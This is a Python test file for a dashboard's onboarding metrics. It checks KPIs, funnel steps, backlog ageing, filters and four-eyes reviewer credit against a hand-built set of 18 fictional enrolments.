"""The managers' onboarding metrics (dashboard.enrolment.metrics and its page's callbacks).

Every figure is checked against a small hand-built data set whose answers are worked out
by hand below, on SQLite and on PostgreSQL (the `database_url` fixture runs both). The
data are made with the real service functions while the test moves the clock, so every
timestamp is known to the second.

The calendar (all times UTC; Luxembourg is UTC+1 in January, so 09:00 UTC = 10:00 local).
Weeks start on Monday: W1 = 2026-01-05, W2 = 2026-01-12, W3 = 2026-01-19.
P1 = "médecine générale", P2 = "pédiatrie"; reviewers "alice" (R1) and "bruno" (R2).

  E1  P1 W1 Mon 05 09:00 declared; nothing else; expired by expire_stale Wed 04/02 09:00
  E2  P1 W1 Mon 05 10:00 declared; opened, CGU, matricule; LuxTrust match Mon 05 16:00
                          -> automatic account after 6 h = 0.25 day
  E3  P2 W1 Tue 06 09:00 declared; steps Tue 06 10:00; LuxTrust match Wed 07 09:00 -> 1.0
  E4  P1 W1 Wed 07 09:00 declared; opened, CGU; 5 wrong matricules Wed 07 10:00 -> locked
  E5  P2 W1 Thu 08 09:00 declared; cancelled by its professional Thu 08 12:00
  E6  P1 W2 Mon 12 09:00 declared; steps Mon 12 10:00; LuxTrust match Thu 15 09:00 -> 3.0
  E7  P1 W2 Mon 12 10:00 declared; LuxTrust last name typo + device confirmed Mon 12 16:00;
                          R1 approves Tue 13 16:00: handling 1.0, declaration->account 1.25
  E8  P2 W2 Tue 13 09:00 declared; names swapped, confirmed Tue 13 15:00;
                          R2 approves Thu 15 21:00: handling 2.25, declaration->account 2.5
  E9  P1 W2 Wed 14 08:00 declared; birth date different, confirmed Wed 14 09:00;
                          R1 rejects Wed 14 21:00: handling 0.5
  E10 P2 W2 Thu 15 09:00 declared; birth date different (four-eyes), confirmed Thu 15 15:00;
                          R1 proposes approval Fri 16 06:00, R2 confirms Mon 19 09:00: the
                          decision is final, and dated, Mon 19; handling 3.75 (until the
                          confirmation), declaration->account 4.0
  E11 P2 W3 Mon 19 09:00 declared; first names typo, confirmed Fri 30/01 15:00 -> pending
  E12 P1 W3 Tue 20 09:00 declared; last name different, confirmed Tue 03/02 15:00 -> pending
  E13 P2 W3 Wed 21 09:00 declared; link opened Wed 21 10:00 only
  E14 P1 W3 Thu 22 09:00 declared; link opened and CGU accepted Thu 22 10:00 only
  E15 P2 W3 Fri 23 08:00 declared; matricule different, confirmed Fri 23 09:00 -> pending
  E16 P1 W3 Wed 21 12:00 declared; last name typo, confirmed Mon 02/02 12:00 -> pending
  E17 P2 W3 Fri 23 12:00 declared; opened, CGU, matricule verified Fri 23 13:00 only
  E18 P1 W3 Fri 23 14:00 declared; LuxTrust last name typo Fri 23 15:00, never confirmed

"Now" for the report: Wednesday 2026-02-04 09:00 UTC (10:00 in Luxembourg), right after
expire_stale expired E1 (declared 30 days earlier to the second). Every other open
declaration was made after Jan 19 and expires after Feb 18.
"""

from __future__ import annotations

import base64
import csv
import datetime as dt
import io
import json
import re
from dataclasses import dataclass, field

import openpyxl
import pytest
from sqlalchemy import event

from dashboard.app import create_app
from dashboard.enrolment import (
    decisions,
    declarations,
    housekeeping,
    kernel,
    matricule,
    metrics,
    review,
    rollup,
    secretary,
)
from dashboard.enrolment import lifecycle as lc
from dashboard.enrolment.kernel import Actor
from dashboard.enrolment.model import Enrolment
from tests import dashclient as dc
from tests import factories as f


def t(month: int, day: int, hour: int, minute: int = 0) -> dt.datetime:
    return dt.datetime(2026, month, day, hour, minute, tzinfo=dt.UTC)


NOW = t(2, 4, 9)  # Wednesday, after the expiry run
W1, W2, W3 = dt.date(2026, 1, 5), dt.date(2026, 1, 12), dt.date(2026, 1, 19)
GP, PED = "médecine générale", "pédiatrie"

# label: (professional, last name, first names, birth date AAAAMMJJ). ASCII names, so a
# leak cannot hide behind JSON's \u escapes; each one is unusual enough not to occur by
# chance in a Plotly figure.
PEOPLE = {
    "E1": ("P1", "Arend", "Anouk", "19600101"),
    "E2": ("P1", "Bausch", "Carole", "19610202"),
    "E3": ("P2", "Colling", "Danielle", "19620303"),
    "E4": ("P1", "Dondelinger", "Estelle", "19630404"),
    "E5": ("P2", "Eischen", "Gaby", "19640505"),
    "E6": ("P1", "Flammang", "Isabelle", "19650606"),
    "E7": ("P1", "Gloden", "Karin", "19660707"),
    "E8": ("P2", "Hoscheit", "Lydie", "19670808"),
    "E9": ("P1", "Ihry", "Monique", "19680909"),
    "E10": ("P2", "Jacoby", "Nathalie", "19691010"),
    "E11": ("P2", "Kieffer", "Odile", "19701111"),
    "E12": ("P1", "Lanners", "Pascale", "19711212"),
    "E13": ("P2", "Mersch", "Sylvie", "19720113"),
    "E14": ("P1", "Nilles", "Tania", "19730214"),
    "E15": ("P2", "Olinger", "Viviane", "19740315"),
    "E16": ("P1", "Pletschette", "Yvette", "19750416"),
    "E17": ("P2", "Quintus", "Paula", "19760517"),
    "E18": ("P1", "Reding", "Romy", "19770618"),
}


def person(label: str) -> dict:
    _prof, last, first, birth = PEOPLE[label]
    return {
        "last_name": last,
        "first_names": first,
        "matricule": matricule.make(birth, f"{int(label[1:]):03d}"),
        "email": f"{first.lower()}.{last.lower()}@example.lu",
    }


# What LuxTrust returns for each enrolment that reaches it (None = same as declared).
OBSERVED = {
    "E7": {"last_name": "Glodenn"},  # typo
    "E8": {"last_name": "Lydie", "first_names": "Hoscheit"},  # swapped
    "E9": {"birth_date": dt.date(1968, 9, 19)},  # different
    "E10": {"birth_date": dt.date(1969, 10, 20)},  # different (four-eyes on approval)
    "E11": {"first_names": "Odila"},  # typo
    "E12": {"last_name": "Weber"},  # different
    "E15": {"matricule": matricule.make("19740315", "999")},  # different
    "E16": {"last_name": "Pletschete"},  # typo
    "E18": {"last_name": "Redding"},  # typo
}


def observed(label: str):
    return f.identity_of(person(label), **OBSERVED.get(label, {}))


def personal_strings() -> list[str]:
    """Everything about the secretaries (and their professionals) that must never show."""
    values = []
    for label in PEOPLE:
        p = person(label)
        values += [p["last_name"], p["first_names"], p["email"], p["matricule"]]
        values.append(matricule.format_display(p["matricule"]))
        values.append(matricule.birth_date(p["matricule"]).isoformat())
    for changes in OBSERVED.values():
        for value in changes.values():
            values.append(value.isoformat() if isinstance(value, dt.date) else value)
    values += ["@example.lu", "@cabinet.lu", "Hoffmann1", "Hoffmann2"]
    return values


# --- a known bug that stops every computation on PostgreSQL -------------------------------------

PG_GROUPING_ERROR = (
    "metrics.compute on PostgreSQL: _outcome() is called once for SELECT and again for GROUP "
    "BY, so each CASE gets its own bind parameters; psycopg 3 binds on the server ($1.. vs "
    "$6..), PostgreSQL sees two different expressions and raises GroupingError 'column "
    "enrolments.decision must appear in the GROUP BY clause' (outcome counts and trend)"
)


@pytest.fixture
def computes(request):
    """For tests that call metrics.compute: expected to fail on PostgreSQL until fixed."""
    # The PostgreSQL GroupingError described above is fixed; the fixture stays as a marker.


# --- building the data set with the real services ------------------------------------------


@dataclass
class World:
    backend: object
    clock: object
    profs: dict[str, int]
    staff: dict[str, int]
    ids: dict[str, int] = field(default_factory=dict)
    hashes: dict[str, str] = field(default_factory=dict)


def _steps():
    """(when, label, action, *args): sorted by time, then run in that order."""
    full = ("open", "cgu", "matricule")
    s = []

    def walk(label, when, declared=None):
        s.append((declared or when, label, "declare"))
        for action in full:
            s.append((when, label, action))

    s.append((t(1, 5, 9), "E1", "declare"))
    walk("E2", t(1, 5, 10))
    s.append((t(1, 5, 16), "E2", "luxtrust"))
    walk("E3", t(1, 6, 10), declared=t(1, 6, 9))
    s.append((t(1, 7, 9), "E3", "luxtrust"))
    s += [(t(1, 7, 9), "E4", "declare"), (t(1, 7, 9, 30), "E4", "open")]
    s += [(t(1, 7, 9, 30), "E4", "cgu")] + [(t(1, 7, 10), "E4", "wrong_matricule")] * 5
    s += [(t(1, 8, 9), "E5", "declare"), (t(1, 8, 12), "E5", "cancel")]
    walk("E6", t(1, 12, 10), declared=t(1, 12, 9))
    s.append((t(1, 15, 9), "E6", "luxtrust"))
    walk("E7", t(1, 12, 11), declared=t(1, 12, 10))
    s += [(t(1, 12, 16), "E7", "luxtrust"), (t(1, 12, 16), "E7", "confirm")]
    s.append((t(1, 13, 16), "E7", "approve", "R1"))
    walk("E8", t(1, 13, 10), declared=t(1, 13, 9))
    s += [(t(1, 13, 15), "E8", "luxtrust"), (t(1, 13, 15), "E8", "confirm")]
    s.append((t(1, 15, 21), "E8", "approve", "R2"))
    walk("E9", t(1, 14, 8, 30), declared=t(1, 14, 8))
    s += [(t(1, 14, 9), "E9", "luxtrust"), (t(1, 14, 9), "E9", "confirm")]
    s.append((t(1, 14, 21), "E9", "reject", "R1"))
    walk("E10", t(1, 15, 10), declared=t(1, 15, 9))
    s += [(t(1, 15, 15), "E10", "luxtrust"), (t(1, 15, 15), "E10", "confirm")]
    s.append((t(1, 16, 6), "E10", "approve", "R1", "awaiting_second"))
    s.append((t(1, 19, 9), "E10", "approve", "R2", "account_created"))
    walk("E11", t(1, 19, 10), declared=t(1, 19, 9))
    s += [(t(1, 30, 15), "E11", "luxtrust"), (t(1, 30, 15), "E11", "confirm")]
    walk("E12", t(1, 20, 10), declared=t(1, 20, 9))
    s += [(t(2, 3, 15), "E12", "luxtrust"), (t(2, 3, 15), "E12", "confirm")]
    s += [(t(1, 21, 9), "E13", "declare"), (t(1, 21, 10), "E13", "open")]
    s += [(t(1, 22, 9), "E14", "declare"), (t(1, 22, 10), "E14", "open")]
    s.append((t(1, 22, 10), "E14", "cgu"))
    walk("E15", t(1, 23, 8, 30), declared=t(1, 23, 8))
    s += [(t(1, 23, 9), "E15", "luxtrust"), (t(1, 23, 9), "E15", "confirm")]
    walk("E16", t(1, 21, 13), declared=t(1, 21, 12))
    s += [(t(2, 2, 12), "E16", "luxtrust"), (t(2, 2, 12), "E16", "confirm")]
    walk("E17", t(1, 23, 13), declared=t(1, 23, 12))
    walk("E18", t(1, 23, 15), declared=t(1, 23, 14))
    s.append((t(1, 23, 15), "E18", "luxtrust"))
    s.append((NOW, "", "expire_stale"))
    return sorted(s, key=lambda step: step[0])  # stable: same-time steps keep their order


def _do(w: World, label: str, action: str, *args) -> None:
    be = w.backend
    with be.uow() as uow:
        th = w.hashes.get(label)
        if action == "declare":
            prof = w.profs[PEOPLE[label][0]]
            declared = declarations.declare(uow, prof, **person(label))
            w.ids[label] = declared.enrolment_id
            w.hashes[label] = kernel.hash_token(declared.token)
        elif action == "open":
            secretary.open_invitation(uow, th)
        elif action == "cgu":
            secretary.accept_cgu(uow, th, uow.settings.cgu_version)
        elif action == "matricule":
            assert secretary.verify_matricule(uow, th, person(label)["matricule"]).verified
        elif action == "wrong_matricule":
            # A different wrong value each time: the same one again costs no attempt.
            tried = uow.session.get(Enrolment, w.ids[label]).wrong_matricule_count
            wrong = matricule.make(PEOPLE[label][3], f"{990 + tried:03d}")
            assert not secretary.verify_matricule(uow, th, wrong).verified
        elif action == "luxtrust":
            result = secretary.record_luxtrust_identity(uow, th, observed(label), device="mobile")
            assert result.matches == (label not in OBSERVED), label
        elif action == "confirm":
            secretary.confirm_personal_device(uow, th, True)
        elif action == "approve":
            expected = args[1] if len(args) > 1 else "account_created"
            assert decisions.approve(uow, w.ids[label], w.staff[args[0]]) == expected
        elif action == "reject":
            decisions.reject(
                uow, w.ids[label], w.staff[args[0]], reason_code="identity_not_established"
            )
        elif action == "cancel":
            prof = w.profs[PEOPLE[label][0]]
            declarations.cancel(uow, w.ids[label], Actor("professional", str(prof)), prof)
        elif action == "expire_stale":
            assert housekeeping.expire_stale(uow) == 1  # E1 only
        else:  # pragma: no cover
            raise AssertionError(action)


def _base(backend, clock) -> World:
    clock.now = t(1, 2, 9)  # professionals and staff exist before the first declaration
    profs = {
        "P1": f.professional(backend, 1, specialty=GP),
        "P2": f.professional(backend, 2, specialty=PED),
    }
    staff = {
        "R1": f.reviewer(backend, "alice@esante.lu"),
        "R2": f.reviewer(backend, "bruno@esante.lu"),
        "manager": f.reviewer(backend, "claire@esante.lu", roles=("manager",)),
        "admin": f.reviewer(backend, "denis@esante.lu", roles=("admin",)),
    }
    return World(backend, clock, profs, staff)


STATES = {
    "E1": lc.EXPIRED,
    "E4": lc.LOCKED,
    "E5": lc.CANCELLED,
    "E9": lc.REJECTED,
    "E13": lc.DECLARED,
    "E14": lc.CGU_ACCEPTED,
    "E17": lc.MATRICULE_VERIFIED,
    "E18": lc.IDENTITY_MISMATCH,
    **dict.fromkeys(("E2", "E3", "E6", "E7", "E8", "E10"), lc.ACCOUNT_CREATED),
    **dict.fromkeys(("E11", "E12", "E15", "E16"), lc.PENDING_REVIEW),
}


def build_world(backend, clock) -> World:
    """The data set described at the top, made through the services (clock at NOW)."""
    w = _base(backend, clock)
    for when, label, action, *args in _steps():
        clock.now = when
        _do(w, label, action, *args)
    assert clock.now == NOW
    with backend.uow() as uow:
        states = {label: uow.session.get(Enrolment, w.ids[label]).state for label in PEOPLE}
    assert states == STATES
    return w


@pytest.fixture
def world(backend, clock) -> World:
    return build_world(backend, clock)


def compute(backend, start=None, end=None, specialty=None) -> metrics.Metrics:
    with backend.uow() as uow:
        return metrics.compute(uow, metrics.MetricsFilter(start, end, specialty))


# --- the expected figures, worked out by hand -------------------------------------------------

# Outcomes of the 18: auto E2 E3 E6 (3); approved E7 E8 E10 (3); rejected E9 (1);
# pending_review E11 E12 E15 E16 (4); in_progress E13 E14 E17 E18 (4); expired E1;
# locked E4; cancelled E5.
# Reached: link opened by all but E1, E5 (16); CGU also not E13 (15); matricule also not
# E4 (locked) nor E14 (13); LuxTrust also not E17 (12: E2 E3 E6 E7 E8 E9 E10 E11 E12 E15
# E16 E18); device confirmed (manual check): E7 E8 E9 E10 E11 E12 E15 E16 (8).
ALL_FUNNEL = [
    ("declared", 18),
    ("link_opened", 16),
    ("cgu_accepted", 15),
    ("matricule_verified", 13),
    ("luxtrust_done", 12),
    ("auto", 3),
    ("manual", 8),
    ("approved", 3),
    ("rejected", 1),
]
ALL_ENDINGS = [("expired", 1), ("locked", 1), ("cancelled", 1)]

# Backlog at Wed 04/02 10:00 local. One working day ago = Tue 03/02 10:00 local, two =
# Mon 02/02 10:00 local (also the SLA cut-off: 2 working days), five = Wed 28/01 10:00.
#   E12 confirmed Tue 03/02 16:00 local: 18 h            = 0.75 wd -> 0-1
#   E16 confirmed Mon 02/02 13:00 local: 11 + 24 + 10 h  = 1.875   -> 1-2, not overdue
#   E11 confirmed Fri 30/01 16:00 local: 8 + 48 + 10 h   = 2.75    -> 2-5, overdue
#                 (the weekend does not count)
#   E15 confirmed Fri 23/01 10:00 local: 8 working days           -> >5, overdue
ALL_AGEING = [("0-1", 1), ("1-2", 1), ("2-5", 1), (">5", 1)]

ALL_KPIS = {
    "declarations": 18,
    "accounts": 6,
    "accounts_auto": 3,
    "accounts_manual": 3,
    "auto_match_rate": 0.25,  # 3 automatic / 12 LuxTrust done
    "manual_review_rate": 0.6667,  # 8 device confirmations / 12, rounded to 4 places
    "approval_rate": 0.75,  # 3 approved / (3 approved + 1 rejected)
    # Automatic: E2 0.25, E3 1.0, E6 3.0 days. Median: the middle one, 1.0; 90th
    # percentile (nearest rank): value number ceil(0.9 x 3) = 3 -> 3.0.
    "median_days_auto": 1.0,
    "p90_days_auto": 3.0,
    # Manual: E7 1.25, E8 2.5, E10 4.0 (declaration to the second reviewer's confirmation).
    "median_days_manual": 2.5,
    "p90_days_manual": 4.0,
    "backlog": 4,  # E11 E12 E15 E16
    "overdue": 2,  # E11 E15
}

ALL_TREND = [
    (W1, "auto", 2),  # E2 E3
    (W1, "cancelled", 1),  # E5
    (W1, "expired", 1),  # E1
    (W1, "locked", 1),  # E4
    (W2, "approved", 3),  # E7 E8 E10
    (W2, "auto", 1),  # E6
    (W2, "rejected", 1),  # E9
    (W3, "in_progress", 4),  # E13 E14 E17 E18
    (W3, "pending_review", 4),  # E11 E12 E15 E16
]

ALL_MISMATCHES = [
    ("birth_date", "different", 2),  # E9 E10
    ("first_names", "swapped", 1),  # E8
    ("first_names", "typo", 1),  # E11
    ("last_name", "different", 1),  # E12
    ("last_name", "swapped", 1),  # E8
    ("last_name", "typo", 3),  # E7 E16 E18 (E18 never confirmed: still a mismatch)
    ("matricule", "different", 1),  # E15
]

# Final decisions per reviewer: (name, decisions taken or proposed, second approvals
# confirmed, median handling time). A decision is dated when it became final (the second
# reviewer's confirmation, for four-eyes) and its handling time, from the secretary's
# device confirmation, runs until then; both reviewers are credited with it.
#   alice: E7 1.0, E9 0.5, E10 3.75 (her proposal, final at bruno's confirmation)
#          -> 3 decisions, median of [0.5, 1.0, 3.75] = 1.0
#   bruno: E8 2.25, and his confirmation of E10 3.75 -> 1 decision, 1 confirmation,
#          median (2.25 + 3.75) / 2 = 3.0
ALL_REVIEWERS = [("alice", 3, 0, 1.0), ("bruno", 1, 1, 3.0)]


# --- the whole data set, every figure ---------------------------------------------------------


@pytest.mark.usefixtures("computes")
def test_every_figure_of_the_whole_data_set(world):
    m = compute(world.backend)
    assert m.kpis == ALL_KPIS
    assert m.funnel == ALL_FUNNEL
    assert m.endings == ALL_ENDINGS
    assert sorted(m.trend) == ALL_TREND
    assert [w for w, _o, _n in m.trend] == sorted(w for w, _o, _n in m.trend)
    assert all(type(w) is dt.date and w.weekday() == 0 for w, _o, _n in m.trend)
    assert m.ageing == ALL_AGEING
    assert m.mismatches == ALL_MISMATCHES
    assert m.reviewers == ALL_REVIEWERS
    assert m.specialties == [GP, PED]


@pytest.mark.usefixtures("computes")
def test_the_totals_agree_with_each_other(world):
    m = compute(world.backend)
    by_outcome: dict[str, int] = {}
    for _w, outcome, n in m.trend:
        by_outcome[outcome] = by_outcome.get(outcome, 0) + n
    funnel = dict(m.funnel)
    assert sum(by_outcome.values()) == m.kpis["declarations"] == funnel["declared"]
    assert by_outcome["auto"] == funnel["auto"] == m.kpis["accounts_auto"]
    assert by_outcome["approved"] == funnel["approved"] == m.kpis["accounts_manual"]
    assert by_outcome["rejected"] == funnel["rejected"]
    assert {k: by_outcome.get(k, 0) for k, _n in m.endings} == dict(m.endings)
    assert sum(n for _b, n in m.ageing) == m.kpis["backlog"]
    steps = [n for _k, n in m.funnel[:5]]
    assert steps == sorted(steps, reverse=True)  # each step no more than the one before


@pytest.mark.usefixtures("computes")
def test_backlog_and_overdue_agree_with_the_review_queue(world):
    with world.backend.uow() as uow:
        everyone = review.queue_page(uow, review.QueueQuery(), world.staff["R1"])[1]
        overdue = review.queue_page(
            uow, review.QueueQuery(quick=frozenset({"overdue"})), world.staff["R1"]
        )[1]
    m = compute(world.backend)
    assert (m.kpis["backlog"], m.kpis["overdue"]) == (everyone, overdue) == (4, 2)


@pytest.mark.usefixtures("computes")
@pytest.mark.parametrize(
    "now, ageing, overdue",
    [
        # Thu 05/02 10:00 local: E12 1.75 -> 1-2; E16 2.875 and E11 3.75 -> 2-5; E15 >5.
        # Cut-off Tue 03/02 10:00 local: E16, E11, E15 overdue.
        (t(2, 5, 9), [("0-1", 0), ("1-2", 1), ("2-5", 2), (">5", 1)], 3),
        # Saturday: the clock of working days stands at the end of Friday. E12 Tue 16:00
        # -> 3.33; E16 Mon 13:00 -> 4.46 (2-5); E11 Fri 30/01 16:00 -> 5.33 (>5); E15 >5.
        (t(2, 7, 12), [("0-1", 0), ("1-2", 0), ("2-5", 2), (">5", 2)], 4),
        # Monday 09/02 10:00 local: E12 3.75, E16 4.875 (2-5); E11, E15 >5.
        (t(2, 9, 9), [("0-1", 0), ("1-2", 0), ("2-5", 2), (">5", 2)], 4),
    ],
)
def test_the_backlog_ages_in_working_days(world, now, ageing, overdue):
    world.clock.now = now
    m = compute(world.backend)
    assert m.ageing == ageing
    assert (m.kpis["backlog"], m.kpis["overdue"]) == (4, overdue)
    # Nothing else depends on "now".
    assert m.kpis == {**ALL_KPIS, "overdue": overdue}
    assert sorted(m.trend) == ALL_TREND


# --- the date filter (the cohort of declarations made between two dates, both included) -----


@pytest.mark.usefixtures("computes")
def test_date_filter_one_week(world):
    # W2 (Mon 12 .. Sun 18, both included): E6 E7 E8 E9 E10.
    m = compute(world.backend, start=W2, end=dt.date(2026, 1, 18))
    assert m.kpis == {
        "declarations": 5,
        "accounts": 4,
        "accounts_auto": 1,  # E6
        "accounts_manual": 3,  # E7 E8 E10
        "auto_match_rate": 0.2,  # 1 / 5 LuxTrust done
        "manual_review_rate": 0.8,  # E7 E8 E9 E10 / 5
        "approval_rate": 0.75,
        "median_days_auto": 3.0,
        "p90_days_auto": 3.0,
        "median_days_manual": 2.5,  # [1.25, 2.5, 4.0]
        "p90_days_manual": 4.0,
        "backlog": 4,  # the queue today, whatever the dates
        "overdue": 2,
    }
    assert m.funnel == [
        ("declared", 5),
        ("link_opened", 5),
        ("cgu_accepted", 5),
        ("matricule_verified", 5),
        ("luxtrust_done", 5),
        ("auto", 1),
        ("manual", 4),
        ("approved", 3),
        ("rejected", 1),
    ]
    assert m.endings == [("expired", 0), ("locked", 0), ("cancelled", 0)]
    assert sorted(m.trend) == [(W2, "approved", 3), (W2, "auto", 1), (W2, "rejected", 1)]
    assert m.ageing == ALL_AGEING
    assert m.mismatches == [
        ("birth_date", "different", 2),
        ("first_names", "swapped", 1),
        ("last_name", "swapped", 1),
        ("last_name", "typo", 1),
    ]
    # Decisions made within the dates: E7 (Tue 13), E9 (Wed 14), E8 (Thu 15); E10's
    # proposal (Fri 16) became a decision on Mon 19, outside.
    assert m.reviewers == [("alice", 2, 0, 0.75), ("bruno", 1, 0, 2.25)]
    assert m.specialties == [GP, PED]


@pytest.mark.usefixtures("computes")
def test_the_end_date_is_included(world):
    # Thursday 15 included: E10, declared Thu 15 09:00, is in; Friday 16 has no declaration.
    assert (
        compute(world.backend, start=dt.date(2026, 1, 15), end=dt.date(2026, 1, 15)).kpis[
            "declarations"
        ]
        == 1
    )
    assert (
        compute(world.backend, start=dt.date(2026, 1, 16), end=dt.date(2026, 1, 16)).kpis[
            "declarations"
        ]
        == 0
    )
    # Mon 12 .. Wed 14: E6 E7 E8 E9.
    m = compute(world.backend, start=W2, end=dt.date(2026, 1, 14))
    assert m.kpis["declarations"] == 4
    assert m.funnel[-4:] == [("auto", 1), ("manual", 3), ("approved", 2), ("rejected", 1)]
    assert m.kpis["p90_days_manual"] == 2.5  # [1.25, 2.5]: ceil(0.9 x 2) = 2
    assert m.kpis["median_days_manual"] == 1.875  # (1.25 + 2.5) / 2
    # The reviewers' panel counts the decisions MADE in the period (by decision date), not
    # the cohort's: E8 (declared Tue 13) was approved by bruno on Thu 15, outside.
    # alice: E7 (1.0) and E9 (0.5) -> 2 decisions, median 0.75.
    assert m.reviewers == [("alice", 2, 0, 0.75)]


@pytest.mark.usefixtures("computes")
def test_open_ended_dates_and_the_weeks_add_up(world):
    only_start = compute(world.backend, start=W3)
    assert only_start.kpis["declarations"] == 8  # E11..E18
    assert sorted(only_start.trend) == ALL_TREND[-2:]
    # Since Jan 19: E10, final at bruno's confirmation (Mon 19), credited to both.
    assert only_start.reviewers == [("alice", 1, 0, 3.75), ("bruno", 0, 1, 3.75)]
    only_end = compute(world.backend, end=dt.date(2026, 1, 11))
    assert only_end.kpis["declarations"] == 5  # E1..E5
    assert sorted(only_end.trend) == ALL_TREND[:4]
    assert only_end.endings == ALL_ENDINGS
    assert only_end.kpis["p90_days_auto"] == 1.0  # [0.25, 1.0]
    weeks = [compute(world.backend, start=w, end=w + dt.timedelta(days=6)) for w in (W1, W2, W3)]
    for i, (step, total) in enumerate(ALL_FUNNEL):
        assert sum(m.funnel[i][1] for m in weeks) == total, step
    mismatches: dict[tuple[str, str], int] = {}
    for m in weeks:
        for fld, kind, n in m.mismatches:
            mismatches[fld, kind] = mismatches.get((fld, kind), 0) + n
    assert sorted((k[0], k[1], n) for k, n in mismatches.items()) == ALL_MISMATCHES


@pytest.mark.usefixtures("computes")
def test_an_empty_period(world):
    m = compute(world.backend, start=dt.date(2026, 1, 17), end=dt.date(2026, 1, 18))
    assert m.kpis == {
        **{k: 0 for k in ("declarations", "accounts", "accounts_auto", "accounts_manual")},
        **{
            k: None
            for k in (
                "auto_match_rate",
                "manual_review_rate",
                "approval_rate",
                "median_days_auto",
                "p90_days_auto",
                "median_days_manual",
                "p90_days_manual",
            )
        },
        "backlog": 4,
        "overdue": 2,
    }
    assert [n for _k, n in m.funnel] == [0] * 9
    assert m.endings == [("expired", 0), ("locked", 0), ("cancelled", 0)]
    assert (m.trend, m.mismatches, m.reviewers) == ([], [], [])
    assert m.ageing == ALL_AGEING


# --- the specialty filter ---------------------------------------------------------------------

# pédiatrie (P2): E3 auto; E5 cancelled; E8, E10 approved; E11, E15 pending; E13, E17 in
# progress. Link opened: all but E5 (7); CGU: not E13 (6); matricule: 6; LuxTrust: not E17
# (5: E3 E8 E10 E11 E15); manual: E8 E10 E11 E15 (4).
PED_KPIS = {
    "declarations": 8,
    "accounts": 3,
    "accounts_auto": 1,
    "accounts_manual": 2,
    "auto_match_rate": 0.2,  # 1 / 5
    "manual_review_rate": 0.8,  # 4 / 5
    "approval_rate": 1.0,  # 2 / 2
    "median_days_auto": 1.0,  # E3 only
    "p90_days_auto": 1.0,
    "median_days_manual": 3.25,  # [2.5 (E8), 4.0 (E10)]: the mean of the two
    "p90_days_manual": 4.0,  # ceil(0.9 x 2) = 2
    "backlog": 4,  # the whole queue: not filtered by specialty
    "overdue": 2,
}


@pytest.mark.usefixtures("computes")
def test_specialty_filter_changes_everything_but_the_backlog(world):
    m = compute(world.backend, specialty=PED)
    assert m.kpis == PED_KPIS
    assert m.funnel == [
        ("declared", 8),
        ("link_opened", 7),
        ("cgu_accepted", 6),
        ("matricule_verified", 6),
        ("luxtrust_done", 5),
        ("auto", 1),
        ("manual", 4),
        ("approved", 2),
        ("rejected", 0),
    ]
    assert m.endings == [("expired", 0), ("locked", 0), ("cancelled", 1)]
    assert sorted(m.trend) == [
        (W1, "auto", 1),  # E3
        (W1, "cancelled", 1),  # E5
        (W2, "approved", 2),  # E8 E10
        (W3, "in_progress", 2),  # E13 E17
        (W3, "pending_review", 2),  # E11 E15
    ]
    # The backlog ageing describes the whole queue today (both specialties), like the
    # backlog and overdue KPIs: E12 and E16 (médecine générale) are still counted.
    assert m.ageing == ALL_AGEING
    assert m.mismatches == [
        ("birth_date", "different", 1),  # E10
        ("first_names", "swapped", 1),  # E8
        ("first_names", "typo", 1),  # E11
        ("last_name", "swapped", 1),  # E8
        ("matricule", "different", 1),  # E15
    ]
    # bruno approved E8 (2.25) and confirmed alice's proposal on E10 (3.75).
    assert m.reviewers == [("bruno", 1, 1, 3.0), ("alice", 1, 0, 3.75)]
    assert m.specialties == [GP, PED]  # the dropdown always offers every specialty


@pytest.mark.usefixtures("computes")
def test_the_specialties_add_up_to_the_whole(world):
    everything = compute(world.backend)
    parts = [compute(world.backend, specialty=s) for s in (GP, PED)]
    for i, (step, total) in enumerate(everything.funnel):
        assert sum(p.funnel[i][1] for p in parts) == total, step
    for i, (ending, total) in enumerate(everything.endings):
        assert sum(p.endings[i][1] for p in parts) == total, ending
    trend: dict[tuple, int] = {}
    for p in parts:
        for w, o, n in p.trend:
            trend[w, o] = trend.get((w, o), 0) + n
    assert sorted((w, o, n) for (w, o), n in trend.items()) == ALL_TREND
    for p in parts:
        assert p.ageing == everything.ageing
        assert (p.kpis["backlog"], p.kpis["overdue"]) == (4, 2)
    assert compute(world.backend, specialty="cardiologie").kpis["declarations"] == 0


@pytest.mark.usefixtures("computes")
def test_specialty_and_dates_together(world):
    # pédiatrie in W2: E8 and E10, both approved after review.
    m = compute(world.backend, start=W2, end=dt.date(2026, 1, 18), specialty=PED)
    assert m.kpis["declarations"] == 2
    assert m.funnel[-4:] == [("auto", 0), ("manual", 2), ("approved", 2), ("rejected", 0)]
    assert sorted(m.trend) == [(W2, "approved", 2)]
    assert m.kpis["median_days_auto"] is None
    assert m.kpis["auto_match_rate"] == 0.0
    assert m.reviewers == [("bruno", 1, 0, 2.25)]  # E10 became final on Mon 19


# --- four-eyes decisions -------------------------------------------------------------------------


def _both(backend, **filters) -> list:
    with backend.uow() as uow:
        slow = metrics.compute_from_rows(uow, metrics.MetricsFilter(**filters)).reviewers
    fast = compute(backend, **filters).reviewers
    assert fast == slow
    return fast


def test_a_four_eyes_decision_credits_both_reviewers_once_final(world):
    be, clock = world.backend, world.clock
    alice, bruno = world.staff["R1"], world.staff["R2"]
    # E15 (matricule different, confirmed Fri 23/01 09:00): alice proposes an approval.
    clock.now = NOW + dt.timedelta(hours=1)
    with be.uow() as uow:
        assert decisions.approve(uow, world.ids["E15"], alice) == "awaiting_second"
    # E12: bruno proposes a rejection for suspected fraud, then alice withdraws it.
    with be.uow() as uow:
        assert (
            decisions.reject(uow, world.ids["E12"], bruno, reason_code="suspected_fraud")
            == "awaiting_second"
        )
    with be.uow() as uow:
        decisions.withdraw_proposal(uow, world.ids["E12"], alice)
    # Neither is a decision: nobody is credited.
    assert _both(be) == ALL_REVIEWERS
    assert _both(be, start=dt.date(2026, 2, 4), end=dt.date(2026, 2, 4)) == []
    # Thu 05/02 09:00: bruno confirms; final then, 13 days after her device confirmation.
    clock.now = t(2, 5, 9)
    with be.uow() as uow:
        assert decisions.approve(uow, world.ids["E15"], bruno) == lc.ACCOUNT_CREATED
    assert _both(be, start=dt.date(2026, 2, 4), end=dt.date(2026, 2, 4)) == []
    assert _both(be, start=dt.date(2026, 2, 5), end=dt.date(2026, 2, 5)) == [
        ("alice", 1, 0, 13.0),
        ("bruno", 0, 1, 13.0),
    ]
    # alice: [0.5, 1.0, 3.75, 13.0]; bruno: [2.25, 3.75 (E10), 13.0 (E15)], 2 confirmations.
    assert _both(be) == [("alice", 4, 0, 2.375), ("bruno", 1, 2, 3.75)]


# --- the median and the 90th percentile ---------------------------------------------------------


